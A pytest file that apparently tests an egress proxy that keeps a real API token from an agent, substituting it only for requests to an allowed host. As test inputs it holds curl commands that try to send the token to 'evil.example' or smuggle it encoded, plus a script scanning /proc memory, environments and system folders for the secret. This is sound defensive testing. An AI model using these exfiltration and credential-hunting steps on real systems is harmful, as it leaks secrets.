"""Secrets that the agent never has: real clients send a placeholder, real servers get the value, nobody else does."""

from __future__ import annotations

import base64
import json
import re
import secrets
import shlex
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.programs.guarded import Guarded, open_guarded
from tests.programs.jobs import run_job
from tests.programs.servers import Web
from tests.runs.launch import Ended, Place, Receipt, write_policy

from trio_egress.evidence.redact import commit

TOKEN = f"ghp_{secrets.token_hex(5)}+7/Lm=52ZzTokenThatIsReal"
"""Another one each time: this file may be where the agent can read it."""
HOST = "api.example.com"
OTHER = "evil.example"
URL = f"https://{HOST}"

SECRET = f"""
[[secret]]
name = "token"
from = {{ env = "API_TOKEN" }}
to = ["{HOST}"]
as = ["basic", "header:authorization", "header:x-api-key", "query:key"]
"""

URLLIB = f"""
import os, urllib.request
asking = urllib.request.Request('{URL}/in', headers={{'X-Api-Key': os.environ['API_TOKEN']}})
print(urllib.request.urlopen(asking).read().decode())
"""
NODE = f"fetch('{URL}/in', {{headers: {{authorization: `Bearer ${{process.env.API_TOKEN}}`}}}})"
PYTHON = shlex.quote(sys.executable)
BEARER = '-H "Authorization: Bearer $API_TOKEN"'
CLIENTS = {
    "curl, Bearer": f"curl -sS {BEARER} {URL}/in",
    "curl, Basic": f'curl -sS -u "agent:$API_TOKEN" {URL}/in',
    "curl, a field of its own": f'curl -sS -H "x-API-key: $API_TOKEN" {URL}/in',
    "curl, query": f'curl -sS "{URL}/in?key=$API_TOKEN"',
    "curl, by the proxy": f"curl -sS -x http://127.0.0.1:8888 {BEARER} {URL}/in",
    "wget": f'wget -qO- --header "Authorization: Bearer $API_TOKEN" {URL}/in',
    "urllib": f"{PYTHON} -c {shlex.quote(URLLIB)}",
    "node": f"node -e {shlex.quote(NODE + '.then(answer => answer.text()).then(console.log)')}",
}


@pytest.fixture(scope="module")
def guarded(servers_place: Path, one_web: Web) -> Iterator[Guarded]:
    with open_guarded(TOKEN, one_web.root / "git", servers_place) as guarded:
        yield guarded


@pytest.fixture
def pins(guarded: Guarded) -> dict[str, str]:
    guarded.asked.clear()
    return guarded.pins(HOST, OTHER)


@pytest.fixture
def policy(pins: dict[str, str]) -> str:
    """No rule of it looks into TLS to HOST by itself; OTHER is allowed, too, and is the same server."""
    other = f'[[egress]]\ndestination = "{OTHER}"\ntls = "intercept"\n'
    return write_policy(HOST, pins=pins, more=other + SECRET)


def run(place: Place, web: Web, policy: str, script: str, **more: Any) -> Ended:
    environment = {"SSL_CERT_FILE": str(web.authority), "API_TOKEN": TOKEN, "GIT_TERMINAL_PROMPT": "0"}
    return run_job(place, script, policy=policy, environment=environment, **more)


def assert_untold(ended: Ended) -> None:
    """Neither the agent nor the record has the value."""
    assert ended.verify() == 0
    assert ended.verify_foreign() == 0
    assert TOKEN not in ended.out.decode() + ended.err
    for path in ended.evidence.iterdir():
        assert TOKEN not in path.read_text(errors="replace"), path


def asked(ended: Ended) -> list[Receipt]:
    return [outcome for outcome in ended.outcomes if outcome.transport == "intercept"]


def test_every_client_is_let_in_with_what_it_never_saw(
    place: Place, web: Web, guarded: Guarded, policy: str
) -> None:
    key = place.path / "commitment-key"
    script = "; ".join(f"{command}; echo" for command in CLIENTS.values())
    ended = run(place, web, policy, script, options=["--commitment-key", str(key)])
    assert ended.text.split() == ["welcome"] * len(CLIENTS)
    stands = commit(bytes.fromhex(key.read_text()), "token", TOKEN.encode())
    assert [outcome.facts["secrets_used"] for outcome in asked(ended)] == [[stands]] * len(CLIENTS)
    assert "placeholder" not in guarded.heard
    assert_untold(ended)


def test_without_the_value_nobody_is_let_in(place: Place, web: Web, policy: str) -> None:
    """The control: the server does mind."""
    ended = run(place, web, policy.replace(SECRET, ""), f"curl -sS -H 'Authorization: Bearer x' {URL}/in")
    assert ended.text == "who are you?\n"


def test_what_a_server_tells_back_is_stars(place: Place, web: Web, guarded: Guarded, policy: str) -> None:
    """In its head, in a body in pieces and in several spellings, in trailers, and in where it sends one."""
    field = '-H "x-api-key: $API_TOKEN" -H "Range: bytes=0-9" --compressed'
    ended = run(place, web, policy, f"curl -sSi {field} {URL}/echo; curl -sSi {field} {URL}/away")
    stars = "*" * len(TOKEN)
    assert f"x-told: a {stars} b\r\n" in ended.text.lower()
    assert f"<{stars}>" in ended.text
    assert f"x-last: {stars}\r\n" in ended.text.lower()
    assert "location: https://evil.example/from?key=***" in ended.text.lower()
    assert TOKEN.encode().hex() not in ended.text
    assert base64.b64encode(b"ab" + TOKEN.encode()).decode()[4:-4] not in ended.text
    assert "range:" not in guarded.heard.lower()
    assert "accept-encoding: identity" in guarded.heard.lower()
    assert_untold(ended)


def test_without_the_placeholder_it_is_all_told(place: Place, web: Web, policy: str) -> None:
    """The control: a request without it is none of the boundary's business, and its answer is as it was sent."""
    ended = run(place, web, policy, f"curl -sSi {URL}/echo; curl -sSi {URL}/away")
    assert f"x-told: a {TOKEN.lower()} b\r\n" in ended.text.lower()
    assert f"<{TOKEN}>" in ended.text
    assert TOKEN.encode().hex() in ended.text
    assert f"x-last: {TOKEN.lower()}\r\n" in ended.text.lower()


def test_an_answer_that_is_compressed_all_the_same_is_refused(place: Place, web: Web, policy: str) -> None:
    ended = run(place, web, policy, f"curl -sS {BEARER} {URL}/packed")
    assert json.loads(ended.text)["status"] == 502
    (outcome,) = asked(ended)
    assert "compressed" in outcome.reason
    assert_untold(ended)


REQUESTS = f"""
import os, requests
said = requests.get('{URL}/away', headers={{'X-Api-Key': os.environ['API_TOKEN']}})
print(said.status_code, said.json()['layer'])
"""


def test_a_redirect_takes_no_secret_with_it(place: Place, web: Web, guarded: Guarded, policy: str) -> None:
    """Both clients send the field on to where they are sent."""
    script = f'curl -sSL -w "%{{http_code}}\\n" -o /dev/null -H "x-api-key: $API_TOKEN" {URL}/away'
    ended = run(place, web, policy, f"{script}; {PYTHON} -c {shlex.quote(REQUESTS)}")
    assert ended.text.splitlines() == ["403", "403 secret"]
    assert {path for path, _ in guarded.asked} == {"/away"}
    for block in ended.blocks:
        assert (block.layer, block.facts["host"]) == ("secret", OTHER)
        assert block.facts["secrets_refused"] == ["token"]
        assert block.reason == f"the secret token goes to {HOST} alone, not to {OTHER}"
    assert len(ended.blocks) == 2
    assert_untold(ended)


ELSEWHERE = {
    "another host": f'-H "x-api-key: $API_TOKEN" https://{OTHER}/',
    "another field": f'-H "x-note: $API_TOKEN" {URL}/in',
    "the path": f"{URL}/in/$API_TOKEN",
    "another parameter": f'"{URL}/in?q=$API_TOKEN"',
    "userinfo of a Host": f'-H "Host: $API_TOKEN@{HOST}" {URL}/in',
    "base64": f'-H "x-note: $(printf "a%s" $API_TOKEN | base64 -w 0)" {URL}/in',
    "upper case": f'-H "x-note: ${{API_TOKEN^^}}" {URL}/in',
}


def test_the_placeholder_anywhere_else_is_denied_and_told(
    place: Place, web: Web, guarded: Guarded, policy: str
) -> None:
    script = "; ".join(f'curl -sS -o /dev/null -w "%{{http_code}}\\n" {what}' for what in ELSEWHERE.values())
    ended = run(place, web, policy, script)
    assert [code for code in ended.text.split() if code != "400"] == ["403"] * (len(ELSEWHERE) - 1)
    assert guarded.asked == []
    assert len(ended.blocks) == len(ELSEWHERE)
    assert [block.layer for block in ended.blocks if block.layer != "secret"] == ["malformed"]
    told = (ended.evidence / "summary.md").read_text()
    assert "token" in told.split("asked for")[1]
    assert_untold(ended)


def test_git_clones_with_what_it_never_saw(place: Place, web: Web, guarded: Guarded, policy: str) -> None:
    """By a credential helper, and by the field that CI services set."""
    repository = web.root / "git" / "guarded.git"
    if not repository.exists():
        make_repository(repository)
    helper = "!f() { echo username=agent; echo password=$API_TOKEN; }; f"
    field = '"Authorization: Basic $(printf "agent:%s" "$API_TOKEN" | base64 -w 0)"'
    ended = run(
        place,
        web,
        policy,
        f"git -c credential.helper={shlex.quote(helper)} clone -q {URL}/git/guarded.git one; "
        f"git -c http.extraHeader={field} clone -q {URL}/git/guarded.git two; cat one/README two/README; "
        f"git clone -q {URL}/git/guarded.git three 2>/dev/null || echo refused",
    )
    assert ended.text == "guarded\nguarded\nrefused\n"
    assert {path.split("?")[0] for path, fields in guarded.asked if "authorization" in fields.lower()} == {
        "/git/guarded.git/info/refs",
        "/git/guarded.git/git-upload-pack",
    }
    assert_untold(ended)


def make_repository(path: Path) -> None:
    work = path.parent / "guarded"
    work.mkdir()
    (work / "README").write_text("guarded\n")
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b.c", "-C", str(work)]
    for command in (["init", "-q"], ["add", "."], ["commit", "-q", "-m", "1"]):
        subprocess.run([*git, *command], check=True)
    subprocess.run(["git", "clone", "-q", "--bare", str(work), str(path)], check=True)


SEARCH = r"""
import os, re, sys, urllib.request
asking = urllib.request.Request(sys.argv[1], headers={"X-Api-Key": os.environ["API_TOKEN"]})
told = urllib.request.urlopen(asking).read()
wanted = re.compile(sys.argv[2].encode())

def look(path, begin=0, size=-1):
    try:
        with open(path, "rb", buffering=0) as file:
            file.seek(begin)
            if wanted.search(file.read(size) or b""):
                print(path)
    except (OSError, OverflowError):
        pass

for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "stack", "syscall"):
        look(f"/proc/{pid}/{name}")
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
    except OSError:
        continue
    for line in maps:
        begin, end = (int(text, 16) for text in line.split()[0].split("-"))
        look(f"/proc/{pid}/mem", begin, end - begin)
for top in ("/tmp", "/run", "/dev", "/etc", "/var/tmp", "/var/log", "/srv", "/root", os.environ["HOME"], sys.argv[3]):
    for folder, _, names in os.walk(top):
        for name in names:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and os.path.getsize(path) < 1 << 24:
                look(path)
print("searched")
"""


def search(place: Place, web: Web, policy: str) -> list[str]:
    """Where an agent finds the value that looks at all it can reach, when a server has told it back."""
    program = place.write("search.py", SEARCH)
    pattern = re.escape(TOKEN[:-1]) + f"[{TOKEN[-1]}]"
    script = f"{PYTHON} {program} {URL}/echo {shlex.quote(pattern)} {place.path} | sort -u"
    *found, last = run(place, web, policy, script).text.splitlines()
    assert last == "searched"
    return found


def test_the_value_is_nowhere_that_the_agent_can_reach(place: Place, web: Web, policy: str) -> None:
    assert search(place, web, policy) == []


def test_a_value_that_is_passed_is_found_by_the_same_search(place: Place, web: Web, policy: str) -> None:
    """The control."""
    found = search(place, web, policy.replace(SECRET, ""))
    assert any(path.endswith("/environ") for path in found)
    assert any(path.endswith("/mem") for path in found)
